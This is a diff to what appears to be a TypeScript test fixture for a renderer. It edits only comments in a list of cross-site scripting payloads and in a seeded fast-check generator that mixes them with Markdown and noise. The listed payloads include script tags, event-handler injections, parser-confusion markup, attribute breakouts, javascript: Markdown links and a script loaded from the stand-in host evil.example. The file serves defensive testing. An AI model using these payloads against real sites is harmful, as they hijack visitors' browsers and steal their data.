@@ -2,9 +2,9 @@ import fc from "fast-check";
 
 const scheme = "javascript";
 
-/** Texts that try to become script, one for each way we know of. Shared by the renderer's tests and the attacks in a browser. */
+/** Texts that try to become script, one for each technique that we know. Shared by the renderer's tests and the attacks in a browser. */
 export const hostileTexts: readonly string[] = [
-  // Elements that run by themselves or by an event.
+  // Elements that run script by themselves or by an event.
   "<script>alert(1)</script>",
   "<ScRiPt>alert(1)</sCrIpT>",
   "<script src=//evil.example/x.js></script>",
@@ -75,7 +75,7 @@ export const hostileTexts: readonly string[] = [
   "<xss autofocus tabindex=1 onfocusin=alert(1)></xss>",
   "<x\u0000 onclick=alert(1)>",
   "<x onclick=alert(1) src=x>",
-  // Parsers that disagree.
+  // Markup on which parsers disagree.
   "<!--<img src=--><img src=x onerror=alert(1)//>",
   "<!--><script>alert(1)</script>-->",
   "<![CDATA[<script>alert(1)</script>]]>",
@@ -98,7 +98,7 @@ export const hostileTexts: readonly string[] = [
   "＜script＞alert(1)＜/script＞",
   "<\u200bscript>alert(1)</script>",
   "\u202e>tpircs/<)1(trela>tpircs<",
-  // Out of an attribute, a script, a template.
+  // Breaking out of an attribute, a script, a template.
   '" onmouseover="alert(1)',
   "' onmouseover='alert(1)",
   '"><img src=x onerror=alert(1)>',
@@ -119,7 +119,7 @@ export const hostileTexts: readonly string[] = [
   '<!--<script>"}',
   "]]><script>alert(1)</script>",
   "*/alert(1)/*",
-  // By way of Markdown.
+  // Through Markdown.
   "[x](javascript:alert(1))",
   "[x](  javascript:alert(1))",
   "[x](java\nscript:alert(1))",
@@ -257,7 +257,7 @@ const text = fc
   )
   .map((parts) => parts.join(""));
 
-/** So many texts made of hostile ones, Markdown and noise; the same ones for the same seed. */
+/** Makes this many texts from hostile ones, Markdown and noise; the same ones for the same seed. */
 export function generateHostileTexts(count: number, seed = 20_261_120): string[] {
   return fc.sample(text, { numRuns: count, seed });
 }
